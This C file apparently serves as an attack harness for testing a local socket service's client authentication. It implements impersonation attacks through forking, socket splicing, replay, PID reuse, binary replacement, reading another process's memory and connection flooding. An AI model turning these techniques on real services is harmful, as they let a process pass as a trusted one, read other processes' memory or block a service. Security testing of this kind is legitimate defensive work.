#include "attacker.h"

static const struct {
    const char *name;
    void (*run)(void);
} attacks[] = {
    {"ask", ask},
    {"fork", fork_and_answer},
    {"splice", splice_before_exec},
    {"splice-with-descriptor", splice_with_descriptor},
    {"forge-sender", forge_sender},
    {"forge-executable", forge_executable},
    {"copy-up", copy_up},
    {"copy-up-inside", copy_up_inside},
    {"inject-socket", inject_socket},
    {"fake-prctl", fake_prctl},
    {"output", answer_through_output},
    {"replay", replay},
    {"use-inherited", use_inherited},
    {"bind-library", bind_library},
    {"without-new-privileges", without_new_privileges},
    {"trace-start", trace_start},
    {"read-client", read_client},
    {"read-process", read_process},
    {"replace-file", replace_own_file},
    {"occupy", occupy},
    {"reuse-pid", reuse_pid},
};

int main(int count, char **arguments) {
    signal(SIGPIPE, SIG_IGN);
    for (size_t index = 0; count > 1 && index < sizeof attacks / sizeof attacks[0]; index++) {
        if (strcmp(arguments[1], attacks[index].name) == 0) {
            attacks[index].run();
            return 0;
        }
    }
    fprintf(stderr, "no such attack\n");
    return 2;
}

_Noreturn void run_victim(const char *kind) {
    execl(setting("VICTIM"), "victim", kind, NULL);
    perror("the victim");
    exit(3);
}

static void write_file(const char *path, const char *text) {
    int file = (int)CHECK(open(path, O_WRONLY));
    CHECK(write(file, text, strlen(text)));
    close(file);
}

void become_own_namespace(int flags) {
    char map[64];
    uid_t uid = getuid();
    gid_t gid = getgid();
    CHECK(unshare(CLONE_NEWUSER | flags));
    write_file("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "%u %u 1", uid, uid);
    write_file("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "%u %u 1", gid, gid);
    write_file("/proc/self/gid_map", map);
}

pid_t start_holder(const char *kind) {
    int output[2];
    char byte;
    CHECK(pipe(output));
    pid_t process = (pid_t)CHECK(fork());
    if (process == 0) {
        const char *user = getenv("AS");
        if (user != NULL) {
            CHECK(setresgid((gid_t)atoi(user), (gid_t)atoi(user), (gid_t)atoi(user)));
            CHECK(setresuid((uid_t)atoi(user), (uid_t)atoi(user), (uid_t)atoi(user)));
        }
        dup2(output[1], 1);
        close(output[0]);
        run_victim(kind);
    }
    close(output[1]);
    return read(output[0], &byte, 1) == 1 ? process : -1;
}

bool print_memory(pid_t process) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", process);
    FILE *maps = fopen(path, "r");
    if (maps == NULL) {
        perror(path);
        return false;
    }
    bool any = false;
    while (fgets(line, sizeof line, maps) != NULL) {
        unsigned long start, end;
        char rights[5];
        static char bytes[4096];
        if (sscanf(line, "%lx-%lx %4s", &start, &end, rights) != 3 || rights[1] != 'w') {
            continue;
        }
        for (; start < end; start += sizeof bytes) {
            struct iovec here = {bytes, sizeof bytes}, there = {(void *)start, sizeof bytes};
            ssize_t got = process_vm_readv(process, &here, 1, &there, 1, 0);
            if (got > 0) {
                any = true;
                CHECK(write(1, bytes, (size_t)got));
            }
        }
    }
    fclose(maps);
    return any;
}

// As a program of its own, for whatever that may have.
void ask(void) {
    answer_and_ask(connect_service(), true, 0);
}

// Its file becomes a signed one while it runs.
void replace_own_file(void) {
    char own[256];
    ssize_t length = CHECK(readlink("/proc/self/exe", own, sizeof own - 1));
    own[length] = 0;
    CHECK(rename(setting("VICTIM"), own));
    ask();
}

// With the connection of somebody else.
void use_inherited(void) {
    int service = atoi(setting("CONNECTION"));
    struct frame request = load("REQUEST");
    send_plain(service, &request);
    print_rest(service, 200);
}

// The process that connected becomes the victim; its child answers.
void fork_and_answer(void) {
    int service = connect_service();
    if (CHECK(fork()) == 0) {
        answer_and_ask(service, true, 0);
        _exit(0);
    }
    run_victim("idle");
}

// The answer lies in the socket before the process becomes the victim, as a page of a file. Once the nonce is known, the
// page is written anew.
static void splice_answer(bool has_tail) {
    int service = connect_service();
    struct frame authentication = load("AUTH");
    struct frame request = load("REQUEST");
    char path[] = "/tmp/spliced-XXXXXX";
    int file = (int)CHECK(mkstemp(path));
    unlink(path);
    CHECK(write(file, authentication.bytes, authentication.size));
    off_t start = 0;
    extern ssize_t sendfile(int, int, off_t *, size_t);
    // What follows the proof is always the same, and can come in a message with a descriptor.
    struct frame tail = {.size = has_tail ? authentication.size - authentication.proof - 32 : 0};
    memcpy(tail.bytes, authentication.bytes + authentication.size - tail.size, tail.size);
    CHECK(sendfile(service, file, &start, authentication.size - tail.size));
    if (has_tail) {
        send_with_descriptor(service, &tail, 0);
    }
    send_plain(service, &request);
    if (CHECK(fork()) == 0) {
        struct frame hello;
        if (receive_frame(service, &hello)) {
            prove(&hello, &authentication);
            CHECK(pwrite(file, authentication.bytes, authentication.size, 0));
            print_rest(service, 250);
        }
        _exit(0);
    }
    run_victim("idle");
}

void splice_before_exec(void) {
    splice_answer(false);
}

void splice_with_descriptor(void) {
    splice_answer(true);
}

// The victim copies what a helper says to its standard output, which is the connection.
static void through_output(bool knows_nonce) {
    int words[2];
    int service = connect_service();
    CHECK(pipe(words));
    if (CHECK(fork()) == 0) {
        struct frame hello, welcome;
        struct frame authentication = load("AUTH");
        struct frame request = load("REQUEST");
        close(words[0]);
        if (receive_frame(service, &hello)) {
            if (knows_nonce) {
                prove(&hello, &authentication);
            }
            CHECK(write(words[1], authentication.bytes, authentication.size));
            if (receive_frame(service, &welcome)) {
                CHECK(write(words[1], request.bytes, request.size));
                print_rest(service, 250);
            }
        }
        _exit(0);
    }
    dup2(words[0], 0);
    dup2(service, 1);
    close(words[0]);
    close(words[1]);
    close(service);
    run_victim("copy");
}

void answer_through_output(void) {
    through_output(true);
}

// With the answer of another connection.
void replay(void) {
    through_output(false);
}

static void become_user(void) {
    uid_t user = (uid_t)atoi(setting("AS"));
    CHECK(setresgid(user, user, user));
    CHECK(setresuid(user, user, user));
}

// The process that connected ends, and the victim gets its number; its child answers. Root helps: it says which number the
// next process has, for which anybody else has to start processes until the numbers begin again.
void reuse_pid(void) {
    int number[2];
    pid_t before;
    CHECK(pipe(number));
    pid_t connecting = (pid_t)CHECK(fork());
    if (connecting == 0) {
        become_user();
        int service = connect_service();
        if (CHECK(fork()) == 0) {
            close(number[0]);
            close(number[1]);
            answer_and_ask(service, true, 0);
            _exit(0);
        }
        before = getpid();
        CHECK(write(number[1], &before, sizeof before));
        _exit(0);
    }
    CHECK(read(number[0], &before, sizeof before));
    CHECK(waitpid(connecting, NULL, 0));
    for (int tries = 0; tries < 50; tries++) {
        char text[16];
        snprintf(text, sizeof text, "%d", before - 1);
        write_file("/proc/sys/kernel/ns_last_pid", text);
        pid_t victim = (pid_t)CHECK(fork());
        if (victim == 0) {
            if (getpid() != before) {
                _exit(1);
            }
            become_user();
            run_victim("idle");
        }
        if (victim == before) {
            fprintf(stderr, "reused\n");
            waitpid(victim, NULL, 0);
            return;
        }
        waitpid(victim, NULL, 0);
    }
}

// Connections that say nothing, as many as there can be, until its input ends.
void occupy(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, setting("SOCKET"), sizeof address.sun_path - 1);
    for (int count = 0; count < 400; count++) {
        int service = (int)CHECK(socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0));
        if (connect(service, (struct sockaddr *)&address, sizeof address) != 0) {
            usleep(1000);
        }
    }
    char byte;
    CHECK(write(1, "occupied\n", 9));
    while (read(0, &byte, 1) > 0) {
    }
}
